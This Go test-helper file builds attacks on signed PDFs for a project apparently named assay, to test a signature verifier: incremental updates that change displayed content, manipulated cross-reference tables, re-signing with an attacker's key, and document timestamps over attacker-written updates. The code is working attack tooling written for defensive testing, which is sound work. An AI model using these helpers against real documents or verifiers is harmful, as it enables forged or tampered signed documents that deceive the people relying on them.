package pdfsigntest

import (
	"bytes"
	"crypto"
	"crypto/sha256"
	"crypto/x509"
	"encoding/hex"
	"fmt"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/digitorus/pkcs7"
	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/types"

	"github.com/assay-dev/assay/report/pdfsign"
)

// Kit crafts the published attacks on a signed PDF (Mladenov et al., CCS
// 2019; Mainka et al., NDSS 2021 and IEEE S&P 2021): incremental updates
// that change what a viewer shows, signature wrapping, universal
// signature forgery, re-signing. It reads the PDF with pdfcpu (not with
// the verifier under test) and writes updates by hand.
type Kit struct {
	PDF []byte
	xt  *model.XRefTable
}

// Obj is one object of an update.
type Obj struct {
	Nr, Gen int
	Body    string // the object's value (and stream) as PDF text
}

// Update is an incremental update to append.
type Update struct {
	Objs []Obj
	Free []int // object numbers marked free
	// Root and Info override the trailer's (as "N 0 R"); empty keeps them.
	Root, Info string
	// Prev overrides /Prev; 0 keeps the file's last startxref.
	Prev int
	// NoXref appends the objects alone: no table, trailer or %%EOF (the
	// incremental saving attack that relies on a reader's repair).
	NoXref bool
	// XrefStream writes a cross-reference stream instead of a table.
	XrefStream bool
	// Compressed puts these objects into an object stream (needs
	// XrefStream).
	Compressed []Obj
	// Offsets overrides the offset written for an object number (an xref
	// entry pointing somewhere else).
	Offsets map[int]int
	// DropID leaves the trailer's /ID out.
	DropID bool
}

// NewKit reads pdf.
func NewKit(t testing.TB, pdf []byte) *Kit {
	t.Helper()
	if model.ConfigPath == "default" {
		api.DisableConfigDir() // pdfcpu must not create ~/.config/pdfcpu
	}
	conf := model.NewDefaultConfiguration()
	conf.ValidationMode = model.ValidationRelaxed
	conf.Offline = true
	ctx, err := api.ReadContext(bytes.NewReader(pdf), conf)
	if err != nil {
		t.Fatalf("pdfcpu cannot read the base PDF: %v", err)
	}
	if err := ctx.EnsurePageCount(); err != nil {
		t.Fatal(err)
	}
	return &Kit{PDF: pdf, xt: ctx.XRefTable}
}

// Size is the trailer's /Size: the next free object number.
func (k *Kit) Size() int { return *k.xt.Size }

// Root is the catalog's object number.
func (k *Kit) Root() int { return k.xt.Root.ObjectNumber.Value() }

// Pages is the page count.
func (k *Kit) Pages() int { return k.xt.PageCount }

// Page returns page n's object number and dictionary (1-based).
func (k *Kit) Page(t testing.TB, n int) (int, types.Dict) {
	t.Helper()
	d, r, _, err := k.xt.PageDict(n, false)
	if err != nil || r == nil {
		t.Fatalf("page %d: %v", n, err)
	}
	return r.ObjectNumber.Value(), d.Clone().(types.Dict)
}

// Catalog returns a copy of the catalog.
func (k *Kit) Catalog(t testing.TB) types.Dict {
	t.Helper()
	d, err := k.xt.Catalog()
	if err != nil {
		t.Fatal(err)
	}
	return d.Clone().(types.Dict)
}

// Dict returns a copy of object nr's dictionary (a stream's dictionary).
func (k *Kit) Dict(t testing.TB, nr int) types.Dict {
	t.Helper()
	o, err := k.xt.FindObject(nr)
	if err != nil {
		t.Fatalf("object %d: %v", nr, err)
	}
	switch v := o.(type) {
	case types.Dict:
		return v.Clone().(types.Dict)
	case types.StreamDict:
		return v.Dict.Clone().(types.Dict)
	}
	t.Fatalf("object %d is %T", nr, o)
	return nil
}

// Ref is the object number a dictionary entry refers to.
func (k *Kit) Ref(t testing.TB, d types.Dict, key string) int {
	t.Helper()
	r, ok := d[key].(types.IndirectRef)
	if !ok {
		t.Fatalf("/%s is %T, not a reference", key, d[key])
	}
	return r.ObjectNumber.Value()
}

// Stream writes a stream object's text.
func Stream(dict string, data []byte) string {
	return fmt.Sprintf("<<%s /Length %d>>\nstream\n%s\nendstream", dict, len(data), data)
}

// StartXref is the value of the file's last startxref.
func (k *Kit) StartXref() int {
	m := regexp.MustCompile(`startxref\s+(\d+)\s+%%EOF\s*$`).FindSubmatch(k.PDF)
	n, _ := strconv.Atoi(string(m[1]))
	return n
}

// Append returns the PDF with u appended.
func (k *Kit) Append(u Update) []byte {
	out := append([]byte(nil), k.PDF...)
	if out[len(out)-1] != '\n' {
		out = append(out, '\n')
	}
	offsets := map[int]int{}
	gens := map[int]int{}
	size := k.Size()
	for _, o := range u.Objs {
		offsets[o.Nr], gens[o.Nr] = len(out), o.Gen
		out = fmt.Appendf(out, "%d %d obj\n%s\nendobj\n", o.Nr, o.Gen, o.Body)
		size = max(size, o.Nr+1)
	}
	if u.NoXref {
		return out
	}
	for nr, off := range u.Offsets {
		offsets[nr] = off
	}
	root := u.Root
	if root == "" {
		root = fmt.Sprintf("%d 0 R", k.Root())
	}
	info := u.Info
	if info == "" && k.xt.Info != nil {
		info = k.xt.Info.PDFString()
	}
	prev := u.Prev
	if prev == 0 {
		prev = k.StartXref()
	}
	tail := fmt.Sprintf(" /Root %s", root)
	if info != "" {
		tail += " /Info " + info
	}
	if k.xt.ID != nil && !u.DropID {
		tail += " /ID " + k.xt.ID.PDFString()
	}
	if prev > 0 {
		tail += fmt.Sprintf(" /Prev %d", prev)
	}
	if u.XrefStream {
		return k.appendXrefStream(out, u, offsets, size, tail)
	}
	entries := map[int]string{}
	for nr, off := range offsets {
		entries[nr] = fmt.Sprintf("%010d %05d n\r\n", off, gens[nr])
	}
	for _, nr := range u.Free {
		entries[nr] = "0000000000 00001 f\r\n"
	}
	xrefAt := len(out)
	out = append(out, "xref\n"...)
	out = appendSubsections(out, entries)
	out = fmt.Appendf(out, "trailer\n<</Size %d%s>>\nstartxref\n%d\n%%%%EOF\n", size, tail, xrefAt)
	return out
}

func appendSubsections(out []byte, entries map[int]string) []byte {
	nrs := make([]int, 0, len(entries))
	for nr := range entries {
		nrs = append(nrs, nr)
	}
	sort.Ints(nrs)
	for i := 0; i < len(nrs); {
		j := i
		for j+1 < len(nrs) && nrs[j+1] == nrs[j]+1 {
			j++
		}
		out = fmt.Appendf(out, "%d %d\n", nrs[i], j-i+1)
		for x := i; x <= j; x++ {
			out = append(out, entries[nrs[x]]...)
		}
		i = j + 1
	}
	return out
}

// appendXrefStream ends the update with a cross-reference stream (and an
// object stream for u.Compressed).
func (k *Kit) appendXrefStream(out []byte, u Update, offsets map[int]int, size int, tail string) []byte {
	type row struct{ typ, a, b int }
	rows := map[int]row{}
	for nr, off := range offsets {
		rows[nr] = row{1, off, 0}
	}
	if len(u.Compressed) > 0 {
		stmNr := size
		size++
		var head, body strings.Builder
		for i, o := range u.Compressed {
			fmt.Fprintf(&head, "%d %d ", o.Nr, body.Len())
			body.WriteString(o.Body + "\n")
			rows[o.Nr] = row{2, stmNr, i}
			size = max(size, o.Nr+1)
		}
		data := head.String() + body.String()
		rows[stmNr] = row{1, len(out), 0}
		out = fmt.Appendf(out, "%d 0 obj\n%s\nendobj\n", stmNr,
			Stream(fmt.Sprintf("/Type /ObjStm /N %d /First %d", len(u.Compressed), head.Len()), []byte(data)))
	}
	xrefNr := size
	size++
	rows[xrefNr] = row{1, len(out), 0}
	nrs := make([]int, 0, len(rows))
	for nr := range rows {
		nrs = append(nrs, nr)
	}
	sort.Ints(nrs)
	var data []byte
	var index []string
	for _, nr := range nrs {
		r := rows[nr]
		data = append(data, byte(r.typ), byte(r.a>>24), byte(r.a>>16), byte(r.a>>8), byte(r.a), byte(r.b>>8), byte(r.b))
		index = append(index, fmt.Sprintf("%d 1", nr))
	}
	at := len(out)
	out = fmt.Appendf(out, "%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n", xrefNr,
		Stream(fmt.Sprintf("/Type /XRef /Size %d /W [1 4 2] /Index [%s]%s", size, strings.Join(index, " "), tail), data), at)
	return out
}

// SigGap returns the offsets of the first signature's /Contents "<…>"
// (from its /ByteRange), and the ByteRange text's span.
func (k *Kit) SigGap(t testing.TB) (start, end, brStart, brEnd int) {
	t.Helper()
	m := regexp.MustCompile(`/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]`).FindSubmatchIndex(k.PDF)
	if m == nil {
		t.Fatal("no /ByteRange")
	}
	a, _ := strconv.Atoi(string(k.PDF[m[2]:m[3]]))
	b, _ := strconv.Atoi(string(k.PDF[m[4]:m[5]]))
	return a, b, m[0], m[1]
}

// Resign appends u plus a signature by key/cert (adbe.pkcs7.detached) in a
// new signature field, covering the whole file: what an attacker who
// changed the document does to make it look signed again.
func (k *Kit) Resign(t testing.TB, u Update, key crypto.Signer, cert *x509.Certificate, visible string) []byte {
	t.Helper()
	size := k.Size()
	for _, o := range u.Objs {
		size = max(size, o.Nr+1)
	}
	sigNr, fieldNr := size, size+1
	const room = 6000
	placeholder := strings.Repeat("0", 2*room)
	u.Objs = append(u.Objs, Obj{Nr: sigNr, Body: "<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 0000000000 0000000000 0000000000] /Contents <" + placeholder + "> /M (D:20261124120000Z)>>"})
	pageNr, _ := k.Page(t, 1)
	rect := "[0 0 0 0]"
	if visible != "" {
		rect = visible
	}
	u.Objs = append(u.Objs, Obj{Nr: fieldNr, Body: fmt.Sprintf("<</Type /Annot /Subtype /Widget /FT /Sig /T (Signature9) /V %d 0 R /F 132 /Rect %s /P %d 0 R>>", sigNr, rect, pageNr)})
	cat := k.Catalog(t)
	form, _ := cat["AcroForm"].(types.Dict)
	form = form.Clone().(types.Dict)
	fields, _ := form["Fields"].(types.Array)
	form["Fields"] = append(append(types.Array{}, fields...), *types.NewIndirectRef(fieldNr, 0))
	cat["AcroForm"] = form
	replaced := false
	for i, o := range u.Objs {
		if o.Nr == k.Root() {
			u.Objs[i].Body = cat.PDFString()
			replaced = true
		}
	}
	if !replaced {
		u.Objs = append(u.Objs, Obj{Nr: k.Root(), Body: cat.PDFString()})
	}
	out := k.Append(u)
	i := bytes.LastIndex(out, []byte("/Contents <"+placeholder))
	a := i + len("/Contents ")
	b := a + 2 + len(placeholder)
	br := fmt.Sprintf("[0 %010d %010d %010d]", a, b, len(out)-b)
	j := bytes.LastIndex(out, []byte("[0 0000000000 0000000000 0000000000]"))
	copy(out[j:], br)
	content := append(append([]byte(nil), out[:a]...), out[b:]...)
	sd, err := pkcs7.NewSignedData(content)
	if err != nil {
		t.Fatal(err)
	}
	sd.SetDigestAlgorithm(pkcs7.OIDDigestAlgorithmSHA256)
	if err := sd.AddSigner(cert, key, pkcs7.SignerInfoConfig{}); err != nil {
		t.Fatal(err)
	}
	sd.Detach()
	der, err := sd.Finish()
	if err != nil || len(der) > room {
		t.Fatalf("CMS: %v (%d bytes)", err, len(der))
	}
	hex.Encode(out[a+1:], der)
	return out
}

// DocTimestamp appends u plus a document time-stamp from ts whose field
// carries fieldExtra (keys added to the field/widget dictionary) and is
// put on the last page: a genuine token, from any TSA, over an update the
// attacker wrote.
func (k *Kit) DocTimestamp(t testing.TB, u Update, ts pdfsign.Timestamper, fieldExtra string) []byte {
	t.Helper()
	size := k.Size()
	for _, o := range u.Objs {
		size = max(size, o.Nr+1)
	}
	sigNr, fieldNr := size, size+1
	const room = 8000
	placeholder := strings.Repeat("0", 2*room)
	u.Objs = append(u.Objs, Obj{Nr: sigNr, Body: "<</Type /DocTimeStamp /Filter /Adobe.PPKLite /SubFilter /ETSI.RFC3161 /ByteRange [0 0000000000 0000000000 0000000000] /Contents <" + placeholder + ">>>"})
	lastNr, last := k.Page(t, k.Pages())
	if !strings.Contains(fieldExtra, "/Rect") {
		fieldExtra += " /Rect [0 0 0 0]"
	}
	if !strings.Contains(fieldExtra, "/T (") {
		fieldExtra += " /T (Timestamp9)"
	}
	u.Objs = append(u.Objs, Obj{Nr: fieldNr, Body: fmt.Sprintf("<</Type /Annot /Subtype /Widget /FT /Sig /V %d 0 R /F 132 /P %d 0 R %s>>", sigNr, lastNr, fieldExtra)})
	annots, _ := last["Annots"].(types.Array)
	last["Annots"] = append(append(types.Array{}, annots...), *types.NewIndirectRef(fieldNr, 0))
	u.Objs = append(u.Objs, Obj{Nr: lastNr, Body: last.PDFString()})
	cat := k.Catalog(t)
	form, _ := cat["AcroForm"].(types.Dict)
	form = form.Clone().(types.Dict)
	fields, _ := form["Fields"].(types.Array)
	form["Fields"] = append(append(types.Array{}, fields...), *types.NewIndirectRef(fieldNr, 0))
	cat["AcroForm"] = form
	u.Objs = append(u.Objs, Obj{Nr: k.Root(), Body: cat.PDFString()})
	out := k.Append(u)
	i := bytes.LastIndex(out, []byte("/Contents <"+placeholder))
	a := i + len("/Contents ")
	b := a + 2 + len(placeholder)
	br := fmt.Sprintf("[0 %010d %010d %010d]", a, b, len(out)-b)
	j := bytes.LastIndex(out, []byte("[0 0000000000 0000000000 0000000000]"))
	copy(out[j:], br)
	h := sha256.New()
	h.Write(out[:a])
	h.Write(out[b:])
	token, err := ts.Timestamp(h.Sum(nil), crypto.SHA256)
	if err != nil || len(token) > room {
		t.Fatalf("time-stamp: %v", err)
	}
	hex.Encode(out[a+1:], token)
	return out
}
